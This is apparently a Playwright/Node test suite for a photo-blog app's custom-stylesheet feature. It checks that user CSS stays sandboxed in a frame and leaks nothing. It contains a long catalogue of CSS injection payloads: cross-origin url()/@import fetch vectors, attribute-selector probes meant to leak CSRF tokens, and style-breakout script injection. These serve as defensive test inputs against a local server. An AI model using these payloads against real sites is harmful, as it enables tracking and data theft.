// A person's stylesheet is a stranger's: what it can do to the page it belongs to, and that it can do nothing else.
// "Elsewhere" is a server of another origin that answers everything and counts who asked.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { ask, bearer, executablePath, fixture, logIn, open, pictureForm, visit } from './browser.mjs';

const site = await open();
const { piclog } = site;
const asked = [];
const elsewhere = http.createServer((request, response) => {
  asked.push(request.url);
  response.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' });
  response.end('h1 { outline: 9px solid rgb(1, 2, 3) }');
});
let foreign, evil, potato, signedIn; // signedIn: potato's tab, for all tests
before(async () => {
  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
  foreign = `http://127.0.0.1:${elsewhere.address().port}`;
  evil = piclog.addUser('evil');
  potato = piclog.addUser('potato');
  for (const user of [evil, potato]) {
    await ask(piclog, 'POST', '/api/pictures', { headers: bearer(user), body: pictureForm(fixture('pictures/cat.jpg'), { caption: 'a cat', alt: 'cat' }) });
    await ask(piclog, 'POST', '/api/statuses', { headers: bearer(user), body: { content: 'hello', face: '🥔' } });
    await ask(piclog, 'POST', '/api/moods', { headers: bearer(user), body: { mood: 'sleepy', face: '🥱', note: '' } });
  }
  signedIn = await logIn(site, potato);
});
after(async () => {
  elsewhere.close();
  await site.close();
});

const wear = async (css) => {
  const answer = await ask(piclog, 'PUT', '/api/me', { headers: bearer(evil), body: { css } });
  assert.equal(answer.status, 200, answer.text);
};
// What stands in the frame below the bar: only there a style is worn.
const room = (page) => page.frameLocator('iframe.room');
const colour = (page, selector = 'h1') => page.locator(selector).first().evaluate((element) => getComputedStyle(element).color);

// Every way in which CSS can ask for something; U is where.
const requests = (u) => [
  `@import "${u}/import"; @import url(${u}/import-url) layer(x) supports(display: grid) screen;`,
  `@font-face { font-family: f; src: url(${u}/font) } @font-face { font-family: g; src: local(none), url("${u}/font2") format("woff2") tech(variations) }`,
  'body, h1 { font-family: f, g, serif }',
  `html { background-image: url(${u}/background) } body { background: url("${u}/quoted"), url('${u}/single'), URL(${u}/upper), \\75\\72\\6c(${u}/escaped) }`,
  `h1 { background: \\75 rl(${u}/split) } h1::before { content: url(${u}/content) } .motto { content: url(${u}/replaced) }`,
  `ul { list-style: url(${u}/list) } .box { border: 9px solid; border-image: url(${u}/border) 9 }`,
  `a, body { cursor: url(${u}/cursor), auto; cursor: -webkit-image-set(url(${u}/cursor-set) 1x), auto }`,
  `.nav { mask: url(${u}/mask); -webkit-mask: url(${u}/webkit-mask); -webkit-mask-box-image: url(${u}/mask-box); mask-border: url(${u}/mask-border) 9 }`,
  `.foot { filter: url(${u}/filter#x); -webkit-filter: url(${u}/webkit-filter#x); backdrop-filter: url(${u}/backdrop#x) }`,
  `.side { clip-path: url(${u}/clip#x) } .pic { shape-outside: url(${u}/shape); float: left } .by { offset-path: url(${u}/offset#x) }`,
  `.pics { background: image-set("${u}/set" 1x, url(${u}/set2) 2x) } .pic { background: -webkit-image-set(url(${u}/webkit-set) 1x) }`,
  `.status { background: -webkit-cross-fade(url(${u}/fade1), url(${u}/fade2), 50%) } .mood { background: cross-fade(url(${u}/fade3), url(${u}/fade4)) }`,
  `.bytes { background: src("${u}/src") } .caption { background: image("${u}/image") } .face { background: paint(x), element(#main) }`,
  `:root { --u: url(${u}/custom) } .status-content { background: var(--u) } @property --p { syntax: "<image>"; inherits: false; initial-value: url(${u}/property) } .links { background: var(--p) }`,
  `@counter-style c { system: cyclic; symbols: url(${u}/counter) } li { list-style: c } @color-profile --x { src: url(${u}/profile) }`,
  `svg, path { fill: url(${u}/fill#x); stroke: url(${u}/stroke#x); marker: url(${u}/marker#x) }`,
  `h2 { behavior: url(${u}/behavior); -moz-binding: url(${u}/binding#x); -o-link: "${u}/link"; width: expression(canary = 1) }`,
  `p { background: url(//${u.replace(/^http:\/\//, '')}/relative), url(${u.replace('http', 'HTTP')}/scheme), url(${u.replace('http', 'ws')}/socket), url(javascript:canary=1) }`,
  `.avatar, .feeling { background: url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${u}/svg'/%3E%3Cscript%3Ecanary=1%3C/script%3E%3C/svg%3E") }`,
  `b { background: url("data:text/html,%3Cscript%3Ecanary=1%3C/script%3E") } @view-transition { navigation: auto } ::view-transition { background: url(${u}/transition) }`,
  `::selection { background: url(${u}/selection) } ::marker { content: url(${u}/marker-content) } ::-webkit-scrollbar { background: url(${u}/scrollbar) } ::first-letter { background: url(${u}/letter) }`,
  `@media screen { i { background: url(${u}/media) } } @supports (display: block) { i { background: url(${u}/supports) } } @layer z { i { background: url(${u}/layer) } } @container (width > 0) { i { background: url(${u}/container) } }`,
  `@keyframes k { from { background: url(${u}/keyframe) } } h1 { animation: k 9s infinite } a:hover { background: url(${u}/hover) } a:visited { background: url(${u}/visited) }`,
  `@starting-style { h1 { background: url(${u}/starting) } } @scope (body) { h1 { background: url(${u}/scope) } } h1 { &:is(h1) { background: url(${u}/nested) } }`,
];

test('it loads nothing from elsewhere and runs nothing, for visitors and people signed in', async () => {
  await wear(requests(foreign).join('\n'));
  const visitor = await visit(site, null);
  for (const page of [visitor, signedIn]) {
    const dialogs = [];
    page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
    await page.goto('/~evil');
    await room(page).locator('h1').hover();
    await room(page).locator('.logo').hover();
    await page.waitForLoadState('networkidle');
    assert.equal(await room(page).locator('h1').evaluate(() => typeof canary), 'undefined');
    assert.notEqual(await room(page).locator('h1').evaluate((h1) => getComputedStyle(h1).outlineWidth), '9px');
    assert.deepEqual(dialogs, []);
  }
  // The same style with each rule alone, so that none hides behind a parse error of another.
  for (const rule of requests(foreign)) {
    await wear(rule);
    await visitor.goto('/~evil');
  }
  await visitor.waitForLoadState('networkidle');
  await visitor.context().close();
  assert.deepEqual(asked, []);
});

test('the proof can fail: the same server is asked when a page may', async () => {
  const context = await site.browser.newContext();
  const page = await context.newPage();
  await page.setContent(`<style>h1 { background: url(${foreign}/control) } @import "${foreign}/late";</style><h1>x</h1>`);
  await page.waitForLoadState('networkidle');
  assert.ok(asked.includes('/control'));
  asked.length = 0;
  await context.close();
});

test('of this site it asks for pictures only, and for no address that does anything', async () => {
  const paths = ['/settings', '/settings/export', '/logout', '/random', '/search?q=x', '/~evil?style=off', '/status', '/api/me', '/upload', '/feed.atom',
    '/i/../random', '/i/%2e%2e/random', '/static/../settings/export', '/static//../../random', '/current-status.js?name=evil', '/badge/evil.gif', '/p/1'];
  await wear(`@import "/~potato/style.css"; @import "/embed/style.css";\n${paths.map((path, i) => `.nav li:nth-child(${i % 8 + 1}) a::${i < 8 ? 'before' : 'after'} { content: url("${path}") }`).join('\n')}
    .box { background: url(/static/tile.jpg) }`);
  const page = signedIn;
  const requests = [];
  piclog.log.length = 0;
  page.on('response', (response) => requests.push(new URL(response.url()).pathname));
  const cookies = await page.context().cookies();
  await page.goto('/~evil');
  await page.waitForLoadState('networkidle');
  assert.ok(requests.includes('/static/tile.jpg'), 'ornaments may be used');
  assert.deepEqual(requests.filter((path) => !/^\/(i|t|static)\/|^\/~evil(\/style\.css|\/room)?$/.test(path)), []);
  assert.deepEqual(piclog.log.filter((line) => /"GET".*(settings|random|search|logout|feed|badge|\/api|status\.js)/.test(line)), []);
  assert.deepEqual((await page.context().cookies()).map((c) => c.name + c.value).sort(), cookies.map((c) => c.name + c.value).sort());
});

test('it can read nothing: the page holds no secret, no field, no control that acts', async () => {
  const hex = [...'0123456789abcdef'];
  await wear(`${hex.map((digit) => `input[value^="${digit}"] { background: url(${foreign}/csrf-${digit}) }`).join('\n')}
    [href^="/settings"], [href*="potato"], [name], meta[content], body:has(a[href="/settings"]) { background: url(${foreign}/signed-in) }
    head, title, meta, link { display: block; background: url(${foreign}/head) }`);
  piclog.run(['user', 'add', 'boss', '--admin'], 'boss has a password\n');
  for (const user of [potato, evil, { name: 'boss', password: 'boss has a password' }]) {
    const page = user === potato ? signedIn : await logIn(site, user);
    await page.goto('/~evil');
    await page.waitForLoadState('networkidle');
    const controls = 'form, input, button, textarea, select, script, iframe:not(.room), object, embed, [onclick], [style]';
    assert.equal(await page.locator(controls).count(), 0);
    assert.equal(await room(page).locator(controls).count(), 0);
    assert.equal(await room(page).locator('.wayout, [href="/login"]').count(), 0, 'the frame does not know who looks');
    for (const frame of page.frames()) assert.ok(!(await frame.content()).includes('csrf'));
    if (user !== potato) await page.context().close();
  }
  assert.deepEqual(asked, []);
});

test('it stays on its own page, whatever it is made of', async () => {
  await wear('h1, h2, a { color: rgb(9, 8, 7) !important }\n</style><script>canary = 1</script><h1 id=broken>--><!--]]>{{{{}}}}}} */ @charset "utf-7"; \u0000'.replace('\u0000', ''));
  const page = signedIn;
  await page.goto('/~evil');
  assert.equal(await colour(room(page)), 'rgb(9, 8, 7)');
  assert.notEqual(await colour(page), 'rgb(9, 8, 7)');
  assert.equal(await room(page).locator('#broken').count(), 0);
  assert.equal(await room(page).locator('h1').evaluate(() => typeof canary), 'undefined');
  for (const path of ['/', '/~potato', '/p/1', '/p/2/edit', '/people', '/statuses', '/moods', '/settings', '/settings/style', '/embed/evil/status', '/~evil?style=off']) {
    await page.goto(path);
    assert.equal(await page.locator('link[href*="evil"][rel=stylesheet]').count(), 0, path);
    assert.notEqual(await colour(page, 'a'), 'rgb(9, 8, 7)', path);
  }
  await page.goto('/~evil?style=on');
});

// The bar, wherever the style can reach: seen, unmoved, pressed by a real click.
const barHolds = async (page, what) => {
  const link = await page.locator('.wayout a').boundingBox();
  const width = page.viewportSize().width;
  assert.ok(link && link.width > 100 && link.height >= 40 && link.x >= 0 && link.y >= 0 && link.x + link.width <= width && link.y < 120, `${what}: ${JSON.stringify(link)}`);
  const before = await page.evaluate(() => window.pressed);
  await page.mouse.click(link.x + link.width / 2, link.y + link.height / 2);
  assert.equal(await page.evaluate(() => window.pressed), before + 1, `${what}: not pressed`);
  return JSON.stringify(link);
};

// Everything that this browser knows to do with CSS, asked from the browser: properties, pseudo-elements and
// pseudo-classes (of all words that its executable holds, those that it takes for a selector), rules that nest.
const vocabulary = async (page) => {
  const binary = ['/usr/lib/chromium/chromium', executablePath].find(existsSync);
  const words = execFileSync('sh', ['-c', `LC_ALL=C grep -aohE '[a-z-]{3,40}' "$0" | LC_ALL=C sort -u`, binary], { encoding: 'utf8', maxBuffer: 1 << 28 }).split('\n').filter(Boolean);
  return page.evaluate((words) => {
    const properties = new Set();
    for (const name in document.documentElement.style) properties.add(name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`).replace(/^webkit-/, '-webkit-'));
    for (const name of words) if (CSS.supports(name, 'inherit')) properties.add(name);
    const plain = words.filter((word) => !/^-?webkit-/.test(word));
    return {
      properties: [...properties].filter((name) => CSS.supports(name, 'inherit')),
      elements: [...plain.filter((word) => CSS.supports(`selector(::${word})`)), ...plain.filter((word) => CSS.supports(`selector(::${word}(*))`)).map((word) => `${word}(*)`),
        ...words.filter((word) => /^-webkit-/.test(word) && CSS.supports(`selector(::${word})`))],
      classes: plain.filter((word) => CSS.supports(`selector(:${word})`)),
      rules: words.filter((word) => {
        for (const form of [`@${word} {}`, `@${word} x {}`, `@${word} (width > 0) {}`, `@${word} (x: y) {}`])
          try {
            const sheet = new CSSStyleSheet();
            sheet.insertRule(form);
            return !(sheet.cssRules[0] instanceof CSSStyleRule);
          } catch { /* no rule of this form */ }
        return false;
      }),
    };
  }, words);
};

// What a declaration may be set to: keywords of the browser's own are tried by the property, the rest is size and place.
const values = ['none', 'auto', '0', '1', '-9999px', '9999px', '500vw', '-200%', '100%', '0deg', '180deg', 'fixed', 'absolute', 'hidden', 'visible', 'block', 'inline',
  '99999s', '2147483647', 'red', 'transparent', 'black', 'translate(-500vw)', 'scale(0)', 'inset(50%)', 'linear-gradient(red, red)', 'opacity(0)', 'all', 'both', 'always',
  'infinite', '0%', 'local(x)', 'reverse', 'smooth', 'scroll', 'auto-flow', 'size', 'strict', 'layout', 'inert', 'cover', 'contain', 'max-content', 'vertical-rl', 'rtl'];

test('whatever a style does, it does in its frame: the bar is seen, unmoved, and pressed', { timeout: 500000 }, async () => {
  const page = await visit(site, null);
  await wear('h1 { color: rgb(9, 8, 7) }');
  const enter = async () => {
    await page.goto('/~evil');
    await page.evaluate(() => {
      window.pressed = 0;
      document.querySelector('.wayout a').addEventListener('click', (event) => { event.preventDefault(); window.pressed++; });
    });
  };
  await enter();
  const { properties, elements, classes, rules } = await vocabulary(page);
  assert.ok(properties.length > 400 && elements.length > 40 && classes.length > 40 && rules.length > 10,
    `${properties.length} properties, ${elements.length} pseudo-elements, ${classes.length} pseudo-classes, ${rules.length} rules`);
  const still = await barHolds(page, 'nothing yet');
  const bar = () => page.screenshot({ clip: { x: 0, y: 0, width: 1200, height: 44 }, animations: 'allow', caret: 'initial', timeout: 60000 });
  const picture = await bar();
  // Every property with every value that it takes, on everything; every pseudo-element over the whole page; every rule.
  const cover = 'content: ""; position: fixed; inset: -9999px; width: 99999px; height: 99999px; background: red; z-index: 2147483647; display: block';
  const sheets = await page.evaluate(({ properties, values }) => properties.flatMap((property) => {
    const taken = values.filter((value) => CSS.supports(property, value));
    return (taken.length ? taken : ['inherit']).map((value) => `${property}: ${value} !important`);
  }), { properties, values }).then((declarations) => declarations.map((declaration) => `html, body, * { ${declaration} }`));
  sheets.push(...elements.map((name) => `*::${name} { ${cover} } html::${name} { ${cover} }`));
  sheets.push(...classes.map((name) => `html:${name}, body:${name}, :${name} { ${cover} }`));
  sheets.push(...rules.flatMap((name) => [`@${name} { html { ${cover} } }`, `@${name} x { from, to { ${cover} } }`, `@${name} (width > 0) { html { ${cover} } }`]));
  // All are worn, by sixties, and one of each sixty alone. PICLOG_EVERY_SHEET=1: each alone.
  const step = process.env.PICLOG_EVERY_SHEET ? 1 : 60;
  let alone = 0;
  for (let i = 0; i < sheets.length; i += step) {
    const some = sheets.slice(i, i + step), one = some[(i / step) % some.length];
    for (const sheet of new Set([some.join('\n'), one])) {
      const frame = page.frames().find((it) => it.url().endsWith('/room'));
      const worn = frame.evaluate((css) => {
        const constructed = new CSSStyleSheet();
        constructed.replaceSync(css);
        document.adoptedStyleSheets = [constructed];
        document.body.getBoundingClientRect();
      }, sheet).then(() => true, () => false);
      const isWorn = await Promise.race([worn, sleep(3000).then(() => false)]);
      assert.equal(await barHolds(page, sheet.slice(0, 300)), still, sheet.slice(0, 300));
      alone += sheet === one;
      // Some keep the frame busy. It has a process of its own, for which the bar did not wait; a screenshot would.
      if (!isWorn) await enter();
      else if (i / step % 8 === 0 && sheet === one) assert.ok(picture.equals(await bar()), `the bar looks otherwise: ${one}`);
    }
  }
  console.log(`# ${sheets.length} stylesheets, ${alone} of them alone`);
  assert.ok(sheets.length > 2000 && alone > 30, `${sheets.length} sheets, ${alone} alone`);
  await page.context().close();
});

test('the way out leads to the page without style and is remembered; links lead to the whole window', async () => {
  const page = await visit(site, null);
  await wear('h1 { color: rgb(9, 8, 7) }');
  for (const width of [360, 1200]) {
    await page.setViewportSize({ width, height: 800 });
    await page.goto('/~evil');
    assert.equal(await colour(room(page)), 'rgb(9, 8, 7)');
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), width);
    await room(page).locator('.pic a').first().click();
    await page.waitForURL('**/p/1');
    await page.goBack();
    assert.equal(await colour(room(page)), 'rgb(9, 8, 7)');
  }
  await page.locator('.wayout a').click();
  await page.waitForURL('**/~evil?style=off');
  assert.equal(await page.locator('iframe').count(), 0);
  await page.goto('/~evil');
  assert.notEqual(await colour(page), 'rgb(9, 8, 7)');
  await page.goto('/~evil?style=on');
  assert.equal(await colour(room(page)), 'rgb(9, 8, 7)');
  await page.context().close();
});

test('the frame is no page of its own, and nobody else may frame it', async () => {
  await wear('h1 { color: rgb(9, 8, 7) }');
  for (const [dest, status, styled] of [['iframe', 200, true], ['document', 303, false], ['image', 303, false], [undefined, 200, false]]) {
    const answer = await ask(piclog, 'GET', '/~evil/room', { headers: dest ? { 'sec-fetch-dest': dest } : {} });
    assert.equal(answer.status, status, dest);
    if (status === 303) assert.equal(new URL(answer.headers.location, 'http://x').pathname, '/~evil');
    assert.equal(answer.text.includes('/~evil/style.css'), styled, dest);
    assert.match(answer.headers.vary, /Sec-Fetch-Dest/);
    if (status === 200) {
      assert.match(answer.headers['content-security-policy'], /frame-ancestors 'self'; sandbox allow-top-navigation/);
      assert.doesNotMatch(answer.headers['content-security-policy'], /allow-(scripts|forms|same-origin)/);
    }
  }
  const outside = await ask(piclog, 'GET', '/~evil');
  assert.match(outside.text, /hello/, 'the words are in the page itself');
  assert.match(outside.text, /class="box profile hot h-card"/);
  assert.match(outside.headers['content-security-policy'], /frame-ancestors 'none'/);
  assert.doesNotMatch(outside.text, /\/~evil\/style\.css/);
});

test('on paper the words are printed, without bar and frame', async () => {
  const page = await visit(site, '/~evil');
  await page.emulateMedia({ media: 'print' });
  assert.equal(await page.locator('iframe.room').isVisible(), false);
  assert.equal(await page.locator('.wayout').isVisible(), false);
  assert.equal(await page.locator('main h1').isVisible(), true);
  await page.context().close();
});

test('who asks for more contrast sees no style', async () => {
  await wear('h1 { color: rgb(9, 8, 7) }');
  for (const [contrast, styled] of [['more', false], ['no-preference', true]]) {
    const page = await visit(site, '/~evil', { contrast });
    assert.equal(await page.locator('iframe.room').isVisible(), styled, contrast);
    assert.equal(await page.locator('main h1').isVisible(), !styled, contrast);
    await page.context().close();
  }
});

test('the editor shows the style while it is typed, asking nobody', async () => {
  await wear('h1 { color: rgb(1, 1, 1) }');
  const page = await logIn(site, evil);
  await page.goto('/settings/style');
  const frame = page.frameLocator('iframe.preview');
  await frame.locator('h1').waitFor();
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.fill('#css', `h1 { color: rgb(2, 2, 2); background: url(${foreign}/live) } body { background: url(/static/tile.jpg) }`);
  await page.waitForFunction(() => getComputedStyle(document.querySelector('iframe.preview').contentDocument.querySelector('h1')).color === 'rgb(2, 2, 2)');
  assert.deepEqual(requests.filter((url) => !url.includes('/static/tile.jpg') && !url.startsWith(foreign)), []);
  assert.deepEqual(asked, []);
  assert.equal(await frame.locator('h1').evaluate((h1) => h1.ownerDocument.scripts.length), 0);
  await page.getByRole('button', { name: 'Save' }).click();
  await page.goto('/~evil');
  assert.equal(await colour(room(page)), 'rgb(2, 2, 2)');
  await page.context().close();
});

test('a layout that is tried on asks for nothing that acts, neither in the editor nor in the preview', async () => {
  const css = `h1 { color: rgb(7, 7, 7); background: url(/~evil?style=off) } .box { background: url(${foreign}/layout) } .nav { background: url(/settings/export) } .foot { background: url(/static/tile.jpg) }`;
  const made = await ask(piclog, 'POST', '/api/layouts', { headers: bearer(evil), body: { name: 'A trap', line: '', css } });
  assert.equal(made.status, 201, made.text);
  const before = asked.length;
  signedIn.complaints.length = 0;
  const seen = () => piclog.log.filter((line) => /style=off|\/settings\/export/.test(line)).length;
  const seenBefore = seen();
  await signedIn.goto('/layouts');
  await signedIn.getByRole('link', { name: 'Start from it' }).click();
  const frame = signedIn.frameLocator('iframe.preview');
  await frame.locator('h1').waitFor();
  await signedIn.waitForFunction(() => getComputedStyle(document.querySelector('iframe.preview').contentDocument.querySelector('h1')).color === 'rgb(7, 7, 7)');
  assert.equal(await frame.locator('h1').evaluate((h1) => h1.ownerDocument.scripts.length), 0);
  await signedIn.goto('/layouts');
  await signedIn.getByRole('link', { name: 'Your page in it' }).click();
  assert.equal(await colour(room(signedIn)), 'rgb(7, 7, 7)');
  assert.equal(await room(signedIn).getByRole('link', { name: 'A trap' }).count(), 0);
  await signedIn.waitForLoadState('networkidle');
  assert.equal(asked.length, before);
  assert.equal(seen(), seenBefore, 'no address that costs something or sets a cookie was asked for');
  assert.equal((await signedIn.context().cookies()).some(({ name }) => name === 'piclog-style'), false);
  const other = await visit(site, '/~potato');
  assert.notEqual(await colour(other), 'rgb(7, 7, 7)', 'looking changes nothing');
  await other.context().close();
  // Saved, it is potato's, whatever becomes of the original.
  await signedIn.goto(`/settings/style?layout=${made.json.id}`);
  await signedIn.getByRole('button', { name: 'Save' }).click();
  assert.equal((await ask(piclog, 'DELETE', `/api/layouts/${made.json.id}`, { headers: bearer(evil) })).status, 204);
  await signedIn.goto('/~potato');
  assert.equal(await colour(room(signedIn)), 'rgb(7, 7, 7)');
  await ask(piclog, 'PUT', '/api/me', { headers: bearer(potato), body: { css: '' } });
});

test('without JavaScript the preview is a page of its own', async () => {
  const page = await logIn(site, evil, { javaScriptEnabled: false });
  await page.goto('/settings/style');
  await page.fill('#css', 'h1 { color: rgb(3, 3, 3) }');
  await page.getByRole('button', { name: 'Preview' }).click();
  await page.waitForURL('**/settings/style/preview');
  const other = await visit(site, '/~evil');
  assert.equal(await colour(room(page)), 'rgb(3, 3, 3)');
  assert.equal(await colour(room(other)), 'rgb(2, 2, 2)', 'nobody else sees it');
  await other.context().close();
  await page.getByRole('link', { name: 'Back to the editor' }).click();
  assert.equal(await page.inputValue('#css'), 'h1 { color: rgb(3, 3, 3) }');
  await page.context().close();
});

test('the seven themes complain about nothing and fit every width', async () => {
  const { themes } = (await ask(piclog, 'GET', '/themes.json')).json;
  assert.equal(themes.length, 7);
  signedIn.complaints.length = 0;
  for (const { name } of themes)
    for (const width of [360, 1200]) {
      await signedIn.setViewportSize({ width, height: 800 });
      await signedIn.goto(`/settings/style/preview?theme=${name}`);
      assert.equal(await room(signedIn).locator('html').evaluate((html) => html.scrollWidth), width, `${name} at ${width}`);
    }
  assert.deepEqual(signedIn.complaints, []);
});

test('layouts of one row keep their links on one line, and the rooms of the settings stand in two columns on a phone', async () => {
  for (const [name, line] of [['Night', 'dark, with a moon over it and so many words that they go on in another line'], ['Plain', '']])
    assert.equal((await ask(piclog, 'POST', '/api/layouts', { headers: bearer(potato), body: { name, line, css: 'body { color: red }' } })).status, 201);
  const page = await logIn(site, potato, { viewport: { width: 1200, height: 900 } });
  for (const path of ['/layouts', '/themes']) {
    await page.goto(path);
    const [first, second] = await page.evaluate(() => [...document.querySelectorAll('.themes > li')].slice(0, 2).map((item) => ({
      top: item.offsetTop, pager: item.querySelector('.pager').offsetTop, lines: new Set([...item.querySelectorAll('.pager a')].map((link) => Math.round(link.getBoundingClientRect().top))).size })));
    assert.equal(second.top, first.top, `${path}: in one row`);
    assert.deepEqual([second.pager, second.lines], [first.pager, 1], path);
  }
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto('/settings/answers');
  const { lefts, sticksOut } = await page.evaluate(() => ({
    lefts: [...new Set([...document.querySelectorAll('.side nav .links li')].map((item) => Math.round(item.getBoundingClientRect().left)))],
    sticksOut: document.documentElement.scrollWidth > innerWidth,
  }));
  assert.equal(lefts.length, 2, `${lefts}`);
  assert.equal(sticksOut, false);
  await page.context().close();
});
